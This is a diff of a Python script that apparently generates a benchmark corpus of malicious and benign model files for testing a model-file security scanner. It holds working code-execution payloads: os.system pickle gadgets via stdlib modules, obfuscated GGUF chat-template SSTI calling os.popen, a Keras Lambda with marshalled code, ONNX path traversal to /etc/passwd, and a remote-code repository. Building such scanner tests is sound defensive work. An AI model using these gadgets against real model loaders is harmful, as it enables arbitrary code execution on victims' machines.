@@ -26,8 +26,11 @@ Sample = tuple[str, str, Callable[[Path, str], None]]  # (name, kind, writer(pat
 
 def s(text: str) -> bytes:
     data = text.encode()
-    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else (
-        b"X" + struct.pack("<I", len(data)) + data)
+    return (
+        b"\x8c" + bytes([len(data)]) + data
+        if len(data) < 256
+        else (b"X" + struct.pack("<I", len(data)) + data)
+    )
 
 
 def g(module: str, name: str) -> bytes:
@@ -68,6 +71,7 @@ def _raw(fn: Callable[[str], bytes]) -> Callable[[Path, str], None]:
 
 
 # --- malicious ---------------------------------------------------------------------------------
+
 
 def _os_system(m: str) -> bytes:
     return pkl(call("os", "system", shell(m)))
@@ -166,8 +170,14 @@ def _import_module(m: str) -> bytes:
 
 def _methodcaller(m: str) -> bytes:
     caller = call("operator", "methodcaller", s("system"), shell(m))
-    return pkl(g("builtins", "map") + b"(" + caller + b"(" + call("importlib", "import_module",
-                                                               s("os")) + b"ltR")
+    return pkl(
+        g("builtins", "map")
+        + b"("
+        + caller
+        + b"("
+        + call("importlib", "import_module", s("os"))
+        + b"ltR"
+    )
 
 
 def _path_write(m: str) -> bytes:
@@ -185,8 +195,18 @@ def _stacked(m: str) -> bytes:
 
 def _memo_confusion(m: str) -> bytes:
     # operands reach STACK_GLOBAL through the memo, after an unrelated string was pushed
-    return pkl(s("os") + b"\x94" + s("system") + b"\x94" + s("builtins") + b"0" + b"h\x00h\x01"
-               + b"\x93(" + shell(m) + b"tR")
+    return pkl(
+        s("os")
+        + b"\x94"
+        + s("system")
+        + b"\x94"
+        + s("builtins")
+        + b"0"
+        + b"h\x00h\x01"
+        + b"\x93("
+        + shell(m)
+        + b"tR"
+    )
 
 
 def _nested_base64(m: str) -> bytes:
@@ -202,24 +222,51 @@ def _legacy_torch(m: str) -> bytes:
 def _keras_lambda(path: Path, m: str) -> None:
     code = compile(f"lambda x: (open({m!r}, 'w').close(), x)[1]", "<bench>", "eval")
     fn = next(c for c in code.co_consts if hasattr(c, "co_code"))
-    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
-             "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {
-                 "code": base64.b64encode(marshal.dumps(fn)).decode(), "defaults": None,
-                 "closure": None}}}}
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "registered_name": None,
+        "config": {
+            "name": "l",
+            "function": {
+                "class_name": "__lambda__",
+                "config": {
+                    "code": base64.b64encode(marshal.dumps(fn)).decode(),
+                    "defaults": None,
+                    "closure": None,
+                },
+            },
+        },
+    }
     _keras_archive(path, layer)
 
 
 def _keras_function_ref(path: Path, m: str) -> None:
-    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
-             "config": {"name": "d", "units": 1, "activation": {
-                 "module": "os", "class_name": "function", "config": "system",
-                 "registered_name": "system"}}}
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Dense",
+        "registered_name": None,
+        "config": {
+            "name": "d",
+            "units": 1,
+            "activation": {
+                "module": "os",
+                "class_name": "function",
+                "config": "system",
+                "registered_name": "system",
+            },
+        },
+    }
     _keras_archive(path, layer)
 
 
 def _keras_archive(path: Path, layer: dict[str, object]) -> None:
-    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
-              "config": {"name": "seq", "layers": [layer]}}
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "registered_name": None,
+        "config": {"name": "seq", "layers": [layer]},
+    }
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
         archive.writestr("config.json", json.dumps(config))
@@ -249,9 +296,13 @@ def _onnx_external(location: str) -> Callable[[Path, str], None]:
         entry = tensor.external_data.add()
         entry.key, entry.value = "location", location
         node = helper.make_node("Identity", ["x"], ["y"])
-        graph = helper.make_graph([node], "g", [helper.make_tensor_value_info(
-            "x", TensorProto.FLOAT, [1])], [helper.make_tensor_value_info(
-            "y", TensorProto.FLOAT, [1])], [tensor])
+        graph = helper.make_graph(
+            [node],
+            "g",
+            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
+            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
+            [tensor],
+        )
         path.write_bytes(helper.make_model(graph).SerializeToString())
 
     return writer
@@ -259,10 +310,12 @@ def _onnx_external(location: str) -> Callable[[Path, str], None]:
 
 def _remote_code(path: Path, m: str) -> None:
     path.mkdir()
-    (path / "config.json").write_text(json.dumps({
-        "model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}))
+    (path / "config.json").write_text(
+        json.dumps({"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}})
+    )
     (path / "modeling_tiny.py").write_text(
-        f"import subprocess\n\nsubprocess.run(['touch', {m!r}])\n\nclass TinyModel:\n    pass\n")
+        f"import subprocess\n\nsubprocess.run(['touch', {m!r}])\n\nclass TinyModel:\n    pass\n"
+    )
 
 
 MALICIOUS: list[Sample] = [
@@ -283,22 +336,37 @@ MALICIOUS: list[Sample] = [
     ("object-array.npz", "npz object array", _raw(_npz)),
     ("gadget-timeit.pkl", "exec-a-string gadget", _raw(_gadget("timeit", "timeit", py))),
     ("gadget-cprofile.pkl", "exec-a-string gadget", _raw(_gadget("cProfile", "run", py))),
-    ("gadget-code-runsource.pkl", "code module siblings",
-     _raw(_stack_global("code", "InteractiveInterpreter.runsource", py))),
+    (
+        "gadget-code-runsource.pkl",
+        "code module siblings",
+        _raw(_stack_global("code", "InteractiveInterpreter.runsource", py)),
+    ),
     ("gadget-pip.pkl", "pip.main", _raw(_gadget("pip", "main", shell))),
-    ("gadget-asyncio-sub.pkl", "asyncio submodule",
-     _raw(_gadget("asyncio.unix_events", "_UnixSubprocessTransport", shell))),
+    (
+        "gadget-asyncio-sub.pkl",
+        "asyncio submodule",
+        _raw(_gadget("asyncio.unix_events", "_UnixSubprocessTransport", shell)),
+    ),
     ("gadget-resolve-name.pkl", "pkgutil.resolve_name", _raw(_resolve_name)),
     ("gadget-import-module.pkl", "importlib + getattr", _raw(_import_module)),
     ("gadget-methodcaller.pkl", "operator.methodcaller", _raw(_methodcaller)),
     ("gadget-path-write.pkl", "pathlib write primitive", _raw(_path_write)),
     ("gadget-mailcap.pkl", "mailcap.findmatch", _raw(_gadget("mailcap", "findmatch", shell))),
-    ("gadget-uuid-cmd.pkl", "stdlib subprocess helper",
-     _raw(_gadget("uuid", "_get_command_stdout", shell))),
-    ("alias-torch-utils-os.pkl", "module alias traversal",
-     _raw(_stack_global("torch._utils", "os.system", shell))),
-    ("alias-random-os.pkl", "module alias traversal",
-     _raw(_stack_global("random", "_os.system", shell))),
+    (
+        "gadget-uuid-cmd.pkl",
+        "stdlib subprocess helper",
+        _raw(_gadget("uuid", "_get_command_stdout", shell)),
+    ),
+    (
+        "alias-torch-utils-os.pkl",
+        "module alias traversal",
+        _raw(_stack_global("torch._utils", "os.system", shell)),
+    ),
+    (
+        "alias-random-os.pkl",
+        "module alias traversal",
+        _raw(_stack_global("random", "_os.system", shell)),
+    ),
     ("nullifai-broken.pkl", "broken stream, payload first", _raw(_nullifai)),
     ("stacked-second.pkl", "stacked pickles", _raw(_stacked)),
     ("memo-confusion.pkl", "memo confusion", _raw(_memo_confusion)),
@@ -306,11 +374,22 @@ MALICIOUS: list[Sample] = [
     ("legacy-torch.pt", "legacy torch stacked pickles", _raw(_legacy_torch)),
     ("keras-lambda.keras", "Keras Lambda", _keras_lambda),
     ("keras-function-ref.keras", "Keras module/function reference", _keras_function_ref),
-    ("gguf-ssti.gguf", "GGUF chat-template SSTI", _gguf(
-        lambda m: "{{ cycler.__init__.__globals__.os.popen('touch " + m + "').read() }}")),
-    ("gguf-ssti-obfuscated.gguf", "obfuscated SSTI", _gguf(
-        lambda m: "{% set a = '__glo' ~ 'bals__' %}{{ (cycler.__init__|attr(a)).os.popen('touch "
-        + m + "') }}")),
+    (
+        "gguf-ssti.gguf",
+        "GGUF chat-template SSTI",
+        _gguf(lambda m: "{{ cycler.__init__.__globals__.os.popen('touch " + m + "').read() }}"),
+    ),
+    (
+        "gguf-ssti-obfuscated.gguf",
+        "obfuscated SSTI",
+        _gguf(
+            lambda m: (
+                "{% set a = '__glo' ~ 'bals__' %}{{ (cycler.__init__|attr(a)).os.popen('touch "
+                + m
+                + "') }}"
+            )
+        ),
+    ),
     ("onnx-traversal.onnx", "ONNX external data ../", _onnx_external("../../etc/passwd")),
     ("onnx-traversal-mid.onnx", "ONNX external data a/../../b", _onnx_external("a/../../../b")),
     ("remote-code-repo", "trust_remote_code", _remote_code),
@@ -318,6 +397,7 @@ MALICIOUS: list[Sample] = [
 
 
 # --- benign ------------------------------------------------------------------------------------
+
 
 def _torch_state_dict(path: Path, _m: str) -> None:
     import torch
@@ -328,17 +408,24 @@ def _torch_state_dict(path: Path, _m: str) -> None:
 def _torch_module(path: Path, _m: str) -> None:
     import torch
 
-    model = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2),
-                                torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(8, 2),
-                                torch.nn.LayerNorm(2), torch.nn.Dropout(0.1))
+    model = torch.nn.Sequential(
+        torch.nn.Conv2d(1, 2, 3),
+        torch.nn.BatchNorm2d(2),
+        torch.nn.ReLU(),
+        torch.nn.Flatten(),
+        torch.nn.Linear(8, 2),
+        torch.nn.LayerNorm(2),
+        torch.nn.Dropout(0.1),
+    )
     torch.save(model, path)
 
 
 def _torchscript(path: Path, _m: str) -> None:
     import torch
 
-    torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU())),
-                   str(path))
+    torch.jit.save(
+        torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU())), str(path)
+    )
 
 
 def _torch_legacy(path: Path, _m: str) -> None:
@@ -354,8 +441,15 @@ def _torch_optimizer(path: Path, _m: str) -> None:
     optimizer = torch.optim.AdamW(model.parameters())
     model(torch.ones(1, 4)).sum().backward()
     optimizer.step()
-    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3,
-                "lr_scheduler": torch.optim.lr_scheduler.StepLR(optimizer, 1).state_dict()}, path)
+    torch.save(
+        {
+            "model": model.state_dict(),
+            "optimizer": optimizer.state_dict(),
+            "epoch": 3,
+            "lr_scheduler": torch.optim.lr_scheduler.StepLR(optimizer, 1).state_dict(),
+        },
+        path,
+    )
 
 
 def _lightning(path: Path, _m: str) -> None:
@@ -379,14 +473,26 @@ def _lightning(path: Path, _m: str) -> None:
     sys.modules[module.__name__] = module
     model = torch.nn.Linear(4, 2)
     optimizer = torch.optim.Adam(model.parameters())
-    torch.save({
-        "epoch": 2, "global_step": 40, "pytorch-lightning_version": "2.4.0",
-        "state_dict": model.state_dict(), "loops": {"fit_loop": {"state_dict": {}}},
-        "callbacks": {"ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {
-            "best_model_score": torch.tensor(0.25), "best_model_path": "epoch=1.ckpt"}},
-        "optimizer_states": [optimizer.state_dict()], "lr_schedulers": [],
-        "hparams_name": "kwargs", "hyper_parameters": AttributeDict(lr=0.001, hidden=4),
-    }, path)
+    torch.save(
+        {
+            "epoch": 2,
+            "global_step": 40,
+            "pytorch-lightning_version": "2.4.0",
+            "state_dict": model.state_dict(),
+            "loops": {"fit_loop": {"state_dict": {}}},
+            "callbacks": {
+                "ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {
+                    "best_model_score": torch.tensor(0.25),
+                    "best_model_path": "epoch=1.ckpt",
+                }
+            },
+            "optimizer_states": [optimizer.state_dict()],
+            "lr_schedulers": [],
+            "hparams_name": "kwargs",
+            "hyper_parameters": AttributeDict(lr=0.001, hidden=4),
+        },
+        path,
+    )
 
 
 def _sklearn(kind: str) -> Callable[[Path, str], None]:
@@ -397,8 +503,9 @@ def _sklearn(kind: str) -> Callable[[Path, str], None]:
         from sklearn.preprocessing import StandardScaler
 
         x = [[0.0, 1.0], [1.0, 0.0], [0.5, 0.5], [0.2, 0.9]]
-        model = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=3,
-                                                                       random_state=0))
+        model = make_pipeline(
+            StandardScaler(), RandomForestClassifier(n_estimators=3, random_state=0)
+        )
         model.fit(x, [0, 1, 1, 0])
         if kind == "pickle":
             path.write_bytes(pickle.dumps(model))
@@ -429,7 +536,8 @@ def _gguf_benign(path: Path, _m: str) -> None:
     writer.add_chat_template(
         "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
         "message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}"
-        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
+        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
+    )
     writer.add_tensor("w", np.ones((4, 4), dtype=np.float32))
     writer.write_header_to_file()
     writer.write_kv_data_to_file()
@@ -441,9 +549,12 @@ def _onnx_benign(path: Path, _m: str) -> None:
     from onnx import TensorProto, helper
 
     node = helper.make_node("Relu", ["x"], ["y"])
-    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info(
-        "x", TensorProto.FLOAT, [1])], [helper.make_tensor_value_info(
-        "y", TensorProto.FLOAT, [1])])
+    graph = helper.make_graph(
+        [node],
+        "g",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
+    )
     path.write_bytes(helper.make_model(graph).SerializeToString())
 
 
@@ -460,11 +571,19 @@ def _keras_benign(suffix: str) -> Callable[[Path, str], None]:
 
 def _hf_folder(path: Path, _m: str) -> None:
     path.mkdir()
-    (path / "config.json").write_text(json.dumps({"model_type": "llama",
-                                                  "architectures": ["LlamaForCausalLM"]}))
-    (path / "tokenizer_config.json").write_text(json.dumps({"chat_template": (
-        "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n"
-        "{% endfor %}")}))
+    (path / "config.json").write_text(
+        json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]})
+    )
+    (path / "tokenizer_config.json").write_text(
+        json.dumps(
+            {
+                "chat_template": (
+                    "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n"
+                    "{% endfor %}"
+                )
+            }
+        )
+    )
     _safetensors(path / "model.safetensors", _m)
 
 
